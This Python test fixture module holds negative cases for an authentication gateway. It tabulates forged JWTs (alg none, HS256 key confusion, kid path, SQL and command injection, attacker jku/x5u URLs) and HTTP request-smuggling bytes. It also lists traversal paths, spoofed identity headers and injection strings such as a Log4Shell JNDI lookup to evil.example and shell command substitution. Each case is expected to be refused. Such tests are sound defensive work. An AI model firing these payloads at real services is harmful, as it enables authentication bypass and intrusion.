"""What attackers send, as tables: tokens that are none, and requests that a client library would refuse to send."""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Callable
from uuid import uuid4

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from issuer import AUDIENCE, ISSUER, Issuer

Forge = Callable[[Issuer], str]


def _b64(data: bytes | str) -> str:
    raw = data.encode() if isinstance(data, str) else data
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def _claims(**changed: object) -> dict[str, object]:
    now = int(time.time())
    said = {"iss": ISSUER, "aud": AUDIENCE, "sub": str(uuid4()), "sid": str(uuid4()), "iat": now, "exp": now + 600}
    return {**said, "role": "admin", **changed}


def _unsigned(header: object, claims: object, signature: str = "") -> str:
    return f"{_b64(json.dumps(header))}.{_b64(json.dumps(claims))}.{signature}"


def _none(spelling: object) -> Forge:
    return lambda issuer: _unsigned({"alg": spelling, "typ": "at+jwt", "kid": issuer.kid}, _claims())


def _hs256(secret_of: Callable[[Issuer], bytes], kid: str | None = None) -> Forge:
    def forge(issuer: Issuer) -> str:
        header = {"typ": "at+jwt", "kid": kid or issuer.kid}
        signer = jwt.PyJWS(algorithms=["HS256"])
        signer._algorithms["HS256"].prepare_key = lambda key: (
            key
        )  # the library would not take a public key for a secret
        return signer.encode(json.dumps(_claims()).encode(), secret_of(issuer), "HS256", headers=header)

    return forge


def _public_pem(issuer: Issuer) -> bytes:
    return issuer._keys[issuer.kid].public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


def _with_header(**header: object) -> Forge:
    """Signed by a key of the attacker's own, that the header tells where to find."""
    return lambda issuer: issuer.token(key=ec.generate_private_key(ec.SECP256R1()), headers=header)


def _own_jwk() -> dict[str, str]:
    numbers = ec.generate_private_key(ec.SECP256R1()).public_key().public_numbers()
    return {"kty": "EC", "crv": "P-256", "x": _b64(numbers.x.to_bytes(32)), "y": _b64(numbers.y.to_bytes(32))}


def _signature(signature: bytes) -> Forge:
    def forge(issuer: Issuer) -> str:
        head, claims, _ = issuer.token().split(".")
        return f"{head}.{claims}.{_b64(signature)}"

    return forge


def _payload(raw: bytes) -> Forge:
    def forge(issuer: Issuer) -> str:
        return jwt.PyJWS().encode(raw, issuer._keys[issuer.kid], "ES256", headers={"typ": "at+jwt", "kid": issuer.kid})

    return forge


def _raw_header(raw: str) -> Forge:
    return lambda issuer: f"{_b64(raw)}.{'.'.join(issuer.token().split('.')[1:])}"


def _good_but(change: Callable[[str], str]) -> Forge:
    return lambda issuer: change(issuer.token())


def _claim(**changed: object) -> Forge:
    return lambda issuer: issuer.token(**changed)  # type: ignore[arg-type]


def _in(seconds: float) -> int:
    return int(time.time() + seconds)


TOKENS: dict[str, Forge] = {
    "alg none": _none("none"),
    "alg None": _none("None"),
    "alg nOnE": _none("nOnE"),
    "alg empty": _none(""),
    "alg null": _none(None),
    "alg a list": _none(["none", "ES256"]),
    "alg none, the signature kept": lambda issuer: _unsigned(
        {"alg": "none", "typ": "at+jwt", "kid": issuer.kid}, _claims(), issuer.token().split(".")[2]
    ),
    "HS256 with the public key in PEM": _hs256(_public_pem),
    "HS256 with the public key's x": _hs256(lambda issuer: issuer.key_set().keys[0].x.encode()),
    "HS256 with zeros, kid /dev/zero": _hs256(lambda _issuer: bytes(32), kid="../../../../../../dev/zero"),
    "HS256 with a secret out of a kid's SQL": _hs256(lambda _issuer: b"x" * 32, kid="nope' UNION SELECT 'x"),
    "kid foreign": _claim(headers={"kid": "foreign"}),
    "kid a path": _claim(headers={"kid": "../../etc/passwd"}),
    "kid an address": _claim(headers={"kid": "https://evil.example/key"}),
    "kid a command": _claim(headers={"kid": "first; touch x"}),
    "kid with a zero byte": _claim(headers={"kid": "first\x00"}),
    "kid with a line break": _claim(headers={"kid": "first\r\nx-role: admin"}),
    "kid very long": _claim(headers={"kid": "k" * 1000}),
    "kid empty": _claim(headers={"kid": ""}),
    "kid a number": _raw_header('{"alg":"ES256","typ":"at+jwt","kid":1}'),
    "kid an object": _raw_header('{"alg":"ES256","typ":"at+jwt","kid":{"a":1}}'),
    "kid twice": _raw_header('{"alg":"ES256","typ":"at+jwt","kid":"first","kid":"foreign"}'),
    "no kid": _raw_header('{"alg":"ES256","typ":"at+jwt"}'),
    "jwk with the attacker's key": _with_header(jwk=_own_jwk()),
    "jku with the attacker's address": _with_header(jku="https://evil.example/jwks.json"),
    "x5u with the attacker's address": _with_header(x5u="https://evil.example/cert.pem"),
    "x5c with the attacker's certificate": _with_header(x5c=["MIIB"]),
    "crit that nobody knows": _claim(headers={"crit": ["exp-at-will"], "exp-at-will": True}),
    "b64 false": _raw_header('{"alg":"ES256","typ":"at+jwt","kid":"first","b64":false,"crit":["b64"]}'),
    "typ JWT": _claim(headers={"typ": "JWT"}),
    "typ of a device": _claim(headers={"typ": "device+jwt"}),
    "no typ": _claim(headers={"typ": None}),
    "expired": _claim(life_s=-31),
    "not valid before later": _claim(nbf=_in(600)),
    "issued in the future": _claim(iat=_in(600)),
    "iat no number": _claim(iat="now"),
    "exp no number": _claim(exp="never"),
    "exp infinite": _payload(b'{"exp":Infinity}'),
    "another audience": _claim(aud="elsewhere"),
    "many other audiences": _claim(aud=["elsewhere", "raceoverlay.evil.example"]),
    "another issuer": _claim(iss="https://evil.example"),
    "our issuer and more": _claim(iss=ISSUER + ".evil.example"),
    "issuers": lambda issuer: _payload(json.dumps(_claims(iss=[ISSUER])).encode())(issuer),
    **{f"no {name}": _claim(**{name: None}) for name in ("exp", "iat", "iss", "aud", "sub", "sid")},
    "sub no id": _claim(sub="admin"),
    "sub SQL": _claim(sub="' OR 1=1 --"),
    "sub a number": _claim(sub=1),
    "sid no id": _claim(sid="../x"),
    "role that is none": _claim(role="root"),
    "role a list": _claim(role=["admin"]),
    "scope a list": _claim(scope=["tracks:read"]),
    "signature of zeros": _signature(bytes(64)),
    "signature of ones": _signature(b"\xff" * 64),
    "signature empty": _signature(b""),
    "signature too long": _signature(b"\x01" * 65),
    "signature in DER": _signature(b"\x30\x06\x02\x01\x01\x02\x01\x01"),
    "role changed after signing": _good_but(
        lambda token: f"{token.split('.')[0]}.{_b64(json.dumps(_claims()))}.{token.split('.')[2]}"
    ),
    "a part more": _good_but(lambda token: token + ".x"),
    "a part less": _good_but(lambda token: token.rpartition(".")[0]),
    "five parts, as if encrypted": lambda _issuer: "a.b.c.d.e",
    "not base64": lambda _issuer: "%%%.###.!!!",
    "bytes beyond ASCII": _good_but(lambda token: token[:-1] + "é"),
    "dots alone": lambda _issuer: "...",
    "payload a list": _payload(b"[]"),
    "payload no JSON": _payload(b"exp=1"),
    "payload not UTF-8": _payload(b"\xff\xfe"),
    "header not UTF-8": lambda _issuer: f"{_b64(bytes([255, 254]))}.{_b64(b'{}')}.x",
    "header a list": _raw_header("[]"),
    "header nested deeply": _raw_header('{"alg":' + "[" * 1200 + "]" * 1200 + "}"),
    "payload nested deeply": lambda issuer: f"{issuer.token().split('.')[0]}.{_b64('[' * 1400 + ']' * 1400)}.x",
    "a number of thousands of digits": _raw_header('{"alg":"ES256","typ":"at+jwt","kid":' + "9" * 2500 + "}"),
    "longer than any of ours": _good_but(lambda token: token + "a" * 4000),
    "as long as the headers may be": lambda _issuer: "a" * 60_000,
}
"""Each is refused with 401, whatever the reason."""

_POST = b"POST /auth/login HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\n"
_GET = b"GET /versions HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"


def _get(target: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    return b"GET " + target + b" " + version + b"\r\nHost: localhost\r\nConnection: close\r\n\r\n"


REFUSED: dict[str, tuple[bytes, str]] = {
    # The server itself closes at what is no HTTP; the gateway answers what is HTTP and still cannot be meant.
    "ten thousand headers": (_GET + b"".join(b"X-%d: a\r\n" % at for at in range(10_000)) + b"\r\n", "431"),
    "a header line without an end": (_GET + b"X: " + b"a" * 200_000, "431"),
    "two lengths": (_POST + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}", "400"),
    "a length twice in one line": (_POST + b"Content-Length: 2, 2\r\n\r\n{}", "400"),
    "a length with a sign": (_POST + b"Content-Length: +2\r\n\r\n{}", "400"),
    "a negative length": (_POST + b"Content-Length: -2\r\n\r\n{}", "400"),
    "a length in hex": (_POST + b"Content-Length: 0x2\r\n\r\n{}", "400"),
    "a length beyond all numbers": (_POST + b"Content-Length: " + b"9" * 30 + b"\r\n\r\n{}", "400"),
    "a length over the limit": (_POST + b"Content-Length: 8193\r\n\r\n", "413 body_too_large"),
    "chunks over the limit": (
        _CHUNKED + b"800\r\n" + b"a" * 0x800 + b"\r\n" + (b"800\r\n" + b"a" * 0x800 + b"\r\n") * 5,
        "413 body_too_large",
    ),
    "a body where there is none": (_GET + b"Content-Length: 2\r\n\r\n{}", "413 body_too_large"),
    "chunked twice": (
        _POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "400 bad_request",
    ),
    "chunked, then not": (_POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", "400"),
    "not, then chunked": (_POST + b"Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n", "400 bad_request"),
    "packed, then chunked": (_POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", "400 bad_request"),
    "xchunked": (_POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", "400"),
    "chunked behind a vertical tab": (_POST + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n", "400"),
    "chunked before a blank and a colon": (_POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", "400"),
    "chunked in quotes": (_POST + b'Transfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n', "400"),
    "a chunk of negative size": (_CHUNKED + b"-1\r\n{}\r\n0\r\n\r\n", "400 bad_request"),
    "a chunk of 0x size": (_CHUNKED + b"0x2\r\n{}\r\n0\r\n\r\n", "400 bad_request"),
    "a chunk of a size beyond all numbers": (_CHUNKED + b"F" * 17 + b"\r\n{}\r\n0\r\n\r\n", "400 bad_request"),
    "a chunk longer than its size": (_CHUNKED + b"2\r\n{}{}\r\n0\r\n\r\n", "400 bad_request"),
    "chunks with bare line feeds": (_CHUNKED + b"2\n{}\n0\n\n", "400 bad_request"),
    "an extension of a chunk without an end": (_CHUNKED + b"2;" + b"a" * 100_000, "400 bad_request"),
    "a folded header": (_GET + b"X: a\r\n b\r\n\r\n", "400"),
    "a folded length": (_POST + b"Content-Length:\r\n 2\r\n\r\n{}", "400"),
    "a zero byte in a value": (_GET + b"X: a\x00b\r\n\r\n", "400"),
    "a zero byte in a name": (_GET + b"X\x00: a\r\n\r\n", "400"),
    "a bare carriage return": (_GET + b"X: a\rY: b\r\n\r\n", "400"),
    "a name with a blank": (_GET + b"X y: a\r\n\r\n", "400"),
    "a line without a colon": (_GET + b"nothing\r\n\r\n", "400"),
    "a blank before the first header": (b"GET /versions HTTP/1.1\r\n Host: localhost\r\n\r\n", "400"),
    "two hosts": (_GET + b"Host: evil.example\r\n\r\n", "400 bad_request"),
    "two tokens": (_GET + b"Authorization: Bearer a\r\nAuthorization: Bearer b\r\n\r\n", "400 bad_request"),
    "two types": (_POST + b"Content-Type: text/plain\r\nContent-Length: 2\r\n\r\n{}", "400 bad_request"),
    "HTTP/0.9": (b"GET /versions\r\n\r\n", "400"),
    "HTTP/1.2": (_get(b"/versions", b"HTTP/1.2"), "400"),
    "HTTP/9": (_get(b"/versions", b"HTTP/9.0"), "400"),
    "TLS inside TLS": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64), "400"),
    "a tunnel": (b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", "404 not_found"),
    "no path but a host": (_get(b"evil.example:80"), "404 not_found"),
    "all there is": (b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", "404 not_found"),
    "another host's address": (_get(b"http://evil.example/nothing"), "404 not_found"),
    "a tab in the target": (_get(b"/ver\tsions"), "400"),
    "a blank in the target": (_get(b"/versions /auth/me"), "400"),
    "a zero byte in the target": (_get(b"/versions\x00"), "400"),
    "bytes beyond ASCII in the path": (_get("/versionsé".encode()), "404 not_found"),
    "bytes beyond ASCII in the query": (_get("/versions?a=é".encode()), "400 bad_request"),
    "a target beyond measure": (_get(b"/versions?" + b"a" * 60_000), "400 bad_request"),
    "a method that is none": (b"GE\x00T /versions HTTP/1.1\r\nHost: localhost\r\n\r\n", "400"),
    "a method nobody knows": (
        b"PROPFIND /versions HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
        "405 method_not_allowed",
    ),
    "a method in small letters": (
        b"get /versions HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
        "405 method_not_allowed",
    ),
}
"""Bytes, and the answer: a status and, where the gateway itself answers, its code."""

NOWHERE = (
    *(b"/versions/..", b"/auth/../versions", b"/auth/./me", b"//versions", b"/versions/", b"/auth//me", b"/./versions"),
    *(b"/%2e%2e/versions", b"/auth/%2e%2e/versions", b"/auth/..%2fversions", b"/auth%2fme", b"/auth%2Fme"),
    *(b"/auth%5cme", b"/auth\\me", b"/..\\versions", b"/auth/me%00", b"/auth/me%0d%0aX:%20y", b"/auth/me%20"),
    *(b"/auth/me;a=b", b"/auth;a=b/me", b"/auth/me;.css", b"/auth/me.json", b"/auth/me%3bx", b"/auth/me%3fx=y"),
    *(
        b"/%61uth/me",
        b"/auth/%6d%65",
        b"/%2561uth/me",
        b"/auth/%252e%252e/versions",
        b"/auth%252fme",
        b"/%c0%ae%c0%ae/versions",
    ),
    *(
        b"/AUTH/me",
        b"/auth/ME",
        b"/auth/me%EF%BC%8F",
        b"/metrics",
        b"/schema",
        b"/schema/openapi.json",
        b"/.git/config",
    ),
    *(b"/.env", b"/tracks/f1/..", b"/tracks/f1/%2e%2e%2f%2e%2e%2fversions", b"/tracks/f1/a%2fb", b"/tracks/../auth/me"),
    *(
        b"/tracks/f1/monza/versions/../../..",
        b"/tracks/f1/'%20OR%201=1--",
        b"/tracks/f1/{{7*7}}",
        b"/tracks/f1/$%7B7*7%7D",
    ),
    *(
        b"/auth/users/1%27%20OR%20%271%27=%271",
        b"/auth/sessions/..%2f..%2fversions",
        b"/tracks/f1/-rf",
        b"/tracks/f1/.hidden",
    ),
)
"""Targets that are not in the table, however much they look like one that is."""

LIES = {
    "X-Forwarded-For": "203.0.113.66",
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Proto": "gopher",
    "X-Forwarded-Prefix": "/evil",
    "X-Forwarded-Port": "1",
    "X-Real-IP": "203.0.113.66",
    "X-Client-IP": "203.0.113.66",
    "True-Client-IP": "203.0.113.66",
    "CF-Connecting-IP": "203.0.113.66",
    "Forwarded": "for=203.0.113.66;host=evil.example;proto=http",
    "Via": "1.1 evil",
    "X-User-Id": "203.0.113.66",
    "X-Role": "admin",
    "X-Scope": "everything",
    "X-Authenticated-User": "admin",
    "X-Auth-Request-Email": "admin@evil.example",
    "Remote-User": "admin",
    "X-Original-URL": "/auth/users",
    "X-Rewrite-URL": "/auth/users",
    "X-HTTP-Method-Override": "DELETE",
    "X-HTTP-Method": "DELETE",
    "X-Method-Override": "DELETE",
    "X-Request-Deadline-Ms": "1",
    "Cookie": "session=evil",
    "Proxy-Authorization": "Basic ZXZpbA==",
    "Proxy": "http://evil.example",
    "Baggage": "evil=1",
    "X-B3-TraceId": "evil",
    "Upgrade": "h2c",
    "HTTP2-Settings": "AAMAAABkAAQAAP__",
    "Trailer": "X-Role",
    "TE": "trailers",
    "Keep-Alive": "timeout=1000",
    "Expect": "the-unexpected",
    "If-Evil": "1",
}
"""Headers that some service somewhere believes."""

TEXTS = (
    "' OR 1=1 --",
    "'; DROP TABLE users; --",
    "a@b.example\r\nBcc: all@evil.example",
    "x\r\n\r\nHTTP/1.1 200 OK",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{0.__class__.__mro__}",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "$(touch /x)`id`|id",
    "\x00\x01\x7f",
    "\u202e\ufeff\U0001f3ce",
    "a" * 4000,
)
"""What is put into every field that is a text."""
